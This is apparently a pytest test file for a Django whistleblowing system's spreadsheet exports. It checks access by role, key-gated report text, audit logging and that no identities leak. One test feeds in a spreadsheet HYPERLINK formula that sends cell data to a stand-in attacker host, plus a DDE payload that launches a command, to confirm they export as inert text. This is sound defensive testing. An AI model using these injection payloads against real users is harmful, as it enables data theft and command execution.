"""XLSX exports read back with openpyxl: the register (never identities; report text only when
asked for, and only where the user holds the key), the recap, and the two management commands
for scheduled use."""

import datetime
import io
import zipfile

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from wbs.audit.models import AuditEvent
from wbs.cases.models import Status
from wbs.monitoring import exports, services
from wbs.monitoring.figures import Filters
from wbs.vault.models import KeyGrant

from . import fixtures as fx

pytestmark = pytest.mark.django_db
S = Status
REGISTER = "/staf/dasbor/register/"
RECAP = "/staf/dasbor/rekap/"
YEAR_2024 = {"date_from": "2024-01-01", "date_to": "2024-12-31"}
NO_KEY = "(tidak ada kunci)"


def _register(client, **data) -> dict[str, list[list]]:
    response = client.post(REGISTER, data)
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return fx.xlsx_sheets(response.content)


def _rows(sheets) -> list[list]:
    """The register's data rows (row 1 is the title, row 2 the header)."""
    return sheets["Register"][2:]


def _column(sheets, name) -> list:
    header = sheets["Register"][1]
    index = header.index(name)
    return [row[index] for row in _rows(sheets)]


@pytest.fixture
def counted(staff):
    return fx.hand_counted()


# --- the register -----------------------------------------------------------------------------


def test_register_header_row(counted, as_staff):
    sheets = _register(as_staff("inspektur"), **YEAR_2024)
    header = sheets["Register"][1]
    assert header[:3] == ["Nomor Registrasi", "Tanggal diterima", "Kategori"]
    assert header == exports.HEADER + [label for _s, label in exports.STAGE_COLUMNS]


def test_register_has_one_row_per_report_of_the_period(counted, as_staff):
    sheets = _register(as_staff("inspektur"), **YEAR_2024)
    expected = sorted(r.registration_number for r in counted if r.received_on.year == 2024)
    assert sorted(_column(sheets, "Nomor Registrasi")) == expected


def test_register_rows_carry_metadata(counted, as_staff):
    sheets = _register(as_staff("inspektur"), date_from="2023-03-05", date_to="2023-03-05")
    row = dict(zip(sheets["Register"][1], _rows(sheets)[0], strict=False))
    assert row["Kategori"] == "Suap" and row["Perangkat Daerah"] == "Sekretariat Daerah"
    assert row["Status"] == S.DITOLAK.label and row["Wilayah Irban"] == "Irban I"
    assert row["Tanggal diterima"].date() == datetime.date(2023, 3, 5)


def test_register_carries_stage_times(counted, as_staff):
    fx.stage_change(counted[5], S.VERIFIKASI, 4, True)
    sheets = _register(as_staff("inspektur"), date_from="2024-02-01", date_to="2024-02-01")
    assert _column(sheets, "Hari kerja: verifikasi") == [4]


def test_register_never_carries_identities(staff, as_staff):
    fx.submit(title=fx.TITLE, identity=fx.vault_identity())
    sheets = _register(as_staff("inspektur"), include_text="on")
    cells = [str(v) for rows in sheets.values() for row in rows for v in row if v is not None]
    assert not any(fx.IDENTITY_NAME in cell or "198001012005011001" in cell for cell in cells)
    assert _column(sheets, "Identitas") == ["Dirahasiakan"]


def test_register_without_text_by_default(staff, as_staff):
    fx.submit(title=fx.TITLE, description=fx.DESCRIPTION)
    sheets = _register(as_staff("inspektur"))
    cells = [str(v) for rows in sheets.values() for row in rows for v in row if v is not None]
    assert "Judul" not in sheets["Register"][1]
    assert not any(fx.TITLE in cell or fx.DESCRIPTION in cell for cell in cells)


def test_register_with_text_when_asked(staff, as_staff):
    fx.submit(title=fx.TITLE, description=fx.DESCRIPTION)
    sheets = _register(as_staff("verifikator"), include_text="on")
    assert _column(sheets, "Judul") == [fx.TITLE]
    assert _column(sheets, "Uraian") == [fx.DESCRIPTION]


def test_register_with_control_characters_in_the_text_still_exports(staff, as_staff):
    """A reporter may type characters an XLSX file cannot hold: they are dropped, the export
    is not a server error (whose log line would quote the decrypted text)."""
    fx.submit(title="Judul\x00dengan\x01kendali", description=fx.DESCRIPTION)
    sheets = _register(as_staff("verifikator"), include_text="on")
    assert _column(sheets, "Judul") == ["Juduldengankendali"]


def test_register_text_that_looks_like_a_formula_stays_text(staff, as_staff):
    """A reporter (outsider) types a formula as the title: opened in a spreadsheet program by
    the Tim WBS, it must not run (no <f> element; a text cell, quote-prefixed)."""
    title = '=HYPERLINK("http://penyerang.example/?d="&B3,"Klik di sini")'
    fx.submit(title=title, description="@SUM(1+1)*cmd|' /C calc'!A0")
    response = as_staff("verifikator").post(REGISTER, {"include_text": "on"})
    with zipfile.ZipFile(io.BytesIO(response.content)) as xlsx:
        sheet_xml = xlsx.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ws = load_workbook(io.BytesIO(response.content))["Register"]
    header = [c.value for c in ws[2]]
    row = ws[3]
    cell = row[header.index("Judul")]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (title, "s", True)
    cell = row[header.index("Uraian")]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    # Ordinary text is not marked.
    number = row[header.index("Nomor Registrasi")]
    assert (number.data_type, number.quotePrefix) == ("s", False)


def test_register_text_only_where_the_user_holds_the_key(staff, as_staff):
    held, _r = fx.submit(title="JUDUL-BERKUNCI-A1")
    not_held, _r = fx.submit(title="JUDUL-TANPA-KUNCI-B2")
    KeyGrant.objects.filter(report=not_held, user=staff["verifikator"]).delete()
    sheets = _register(as_staff("verifikator"), include_text="on")
    titles = dict(zip(_column(sheets, "Nomor Registrasi"), _column(sheets, "Judul"), strict=True))
    assert titles == {
        held.registration_number: "JUDUL-BERKUNCI-A1",
        not_held.registration_number: NO_KEY,
    }


def test_register_text_for_a_role_without_keys(staff, as_staff):
    fx.submit(title=fx.TITLE)
    sheets = _register(as_staff("pj"), include_text="on")
    assert _column(sheets, "Judul") == [NO_KEY]


def test_register_form_has_the_text_box_unticked(staff, as_staff):
    html = as_staff("inspektur").get(REGISTER).content.decode()
    assert 'name="include_text"' in html and "checked" not in html


@pytest.mark.parametrize("persona", ["pembina", "penelaah", "admin"])
def test_register_is_refused_to_other_roles(staff, as_staff, persona):
    assert as_staff(persona).post(REGISTER, {}).status_code == 403


def test_register_export_is_audited(staff, as_staff):
    client = as_staff("inspektur")
    before = AuditEvent.objects.filter(verb="export.register").count()
    client.post(REGISTER, {"include_text": "on"})
    event = AuditEvent.objects.filter(verb="export.register").latest("pk")
    assert AuditEvent.objects.filter(verb="export.register").count() == before + 1
    assert event.payload["include_text"] is True and event.actor == staff["inspektur"]


def test_register_audit_event_carries_no_text(staff, as_staff):
    fx.submit(title=fx.TITLE)
    as_staff("inspektur").post(REGISTER, {"include_text": "on"})
    event = AuditEvent.objects.filter(verb="export.register").latest("pk")
    assert fx.TITLE not in str(event.payload)


# --- the recap as XLSX ------------------------------------------------------------------------


@pytest.fixture
def recap_sheets(counted, as_staff):
    response = as_staff("inspektur").get(RECAP, {"format": "xlsx"})
    assert response.status_code == 200
    return fx.xlsx_sheets(response.content)


def test_recap_xlsx_sheets(recap_sheets):
    assert list(recap_sheets) == [
        "Tabel 1",
        "Status",
        "Kategori",
        "Wilayah",
        "Perangkat Daerah",
        "Waktu proses",
    ]


def _text(rows):
    return [[str(v) for v in row] for row in rows]


def test_recap_xlsx_tabel_1_values(recap_sheets):
    assert recap_sheets["Tabel 1"][2:] == [[2023, 5, 3, 0.6], [2024, 4, 1, 0.25]]


def test_recap_xlsx_percentage_is_formatted_as_percent(counted):
    from io import BytesIO

    from openpyxl import load_workbook

    from wbs.monitoring import services
    from wbs.monitoring.figures import Filters

    content, _name = services.recap(Filters(), fmt="xlsx")
    sheet = load_workbook(BytesIO(content))["Tabel 1"]
    assert sheet.cell(row=3, column=4).number_format == "0.00%"


def test_recap_xlsx_counts_are_numbers(recap_sheets):
    """A spreadsheet for the Wali Kota and the MCP: counts must be numeric cells (summable),
    not text such as "5" or "1.234"."""
    assert all(isinstance(v, int) for row in recap_sheets["Tabel 1"][2:] for v in row[:3])


def test_recap_xlsx_category_counts_and_total(recap_sheets):
    rows = {row[0]: str(row[1]) for row in recap_sheets["Kategori"][1:]}
    assert (rows["Korupsi/kerugian keuangan negara"], rows["Suap"], rows["Jumlah"]) == (
        "5",
        "2",
        "9",
    )


def test_recap_xlsx_is_audited(counted, as_staff):
    before = AuditEvent.objects.filter(verb="export.recap").count()
    as_staff("pj").get(RECAP, {"format": "xlsx"})
    assert AuditEvent.objects.filter(verb="export.recap").count() == before + 1


def test_recap_xlsx_leaks_no_text(staff):
    fx.submit(title=fx.TITLE, description=fx.DESCRIPTION, identity=fx.vault_identity())
    content, _name = services.recap(Filters(), fmt="xlsx")
    cells = fx.all_cells(content)
    assert not any(m in c for c in cells for m in (fx.TITLE, fx.DESCRIPTION, fx.IDENTITY_NAME))


# --- management commands ----------------------------------------------------------------------


def test_export_register_command(counted, tmp_path):
    out = tmp_path / "register.xlsx"
    call_command("export_register", "--from", "2024-01-01", "--to", "2024-12-31", "--output", out)
    sheets = fx.xlsx_sheets(out.read_bytes())
    assert len(_rows(sheets)) == 4


def test_export_register_command_has_no_text(staff, tmp_path):
    fx.submit(title=fx.TITLE, identity=fx.vault_identity())
    out = tmp_path / "register.xlsx"
    today = datetime.date.today()
    call_command(
        "export_register",
        "--from",
        str(today - datetime.timedelta(days=3)),
        "--to",
        str(today + datetime.timedelta(days=3)),
        "--output",
        str(out),
    )
    cells = fx.all_cells(out.read_bytes())
    assert len(_rows(fx.xlsx_sheets(out.read_bytes()))) == 1
    assert not any(fx.TITLE in c or fx.IDENTITY_NAME in c for c in cells)


def test_export_register_command_refuses_a_reversed_period(db, tmp_path):
    with pytest.raises(CommandError):
        call_command(
            "export_register", "--from", "2024-12-31", "--to", "2024-01-01", "--output", "x"
        )


def test_export_register_command_refuses_a_bad_date(db, tmp_path):
    with pytest.raises(CommandError):
        call_command(
            "export_register", "--from", "31-12-2024", "--to", "2025-01-01", "--output", "x"
        )


def test_export_recap_command_pdf(counted, tmp_path):
    out = tmp_path / "recap.pdf"
    call_command("export_recap", "--year", "2023", "--format", "pdf", "--output", str(out))
    text = fx.pdf_text(out.read_bytes())
    assert "Periode: Tahun 2023" in text and "2023 5 3 60,00%" in text


def test_export_recap_command_xlsx(counted, tmp_path):
    out = tmp_path / "recap.xlsx"
    call_command("export_recap", "--year", "2024", "--format", "xlsx", "--output", str(out))
    assert fx.xlsx_sheets(out.read_bytes())["Tabel 1"][2:] == [[2024, 4, 1, 0.25]]


def test_export_recap_command_is_audited(counted, tmp_path):
    call_command("export_recap", "--year", "2024", "--output", str(tmp_path / "r.pdf"))
    assert AuditEvent.objects.filter(verb="export.recap").count() == 1


def test_export_recap_command_refuses_a_silly_year(db, tmp_path):
    with pytest.raises(CommandError):
        call_command("export_recap", "--year", "1900", "--output", str(tmp_path / "r.pdf"))


def test_register_with_text_names_the_reports_it_decrypted(staff, as_staff):
    """Issue 11 §1: the audit says which reports' text the export opened, not only that it
    happened."""
    report, _receipt = fx.submit(title=fx.TITLE)
    as_staff("inspektur").post(REGISTER, {"include_text": "on"})
    event = AuditEvent.objects.filter(verb="export.register").latest("pk")
    assert event.payload["reports"] == [report.registration_number]
    as_staff("inspektur").post(REGISTER, {})
    event = AuditEvent.objects.filter(verb="export.register").latest("pk")
    assert "reports" not in event.payload, "without text nothing is decrypted"
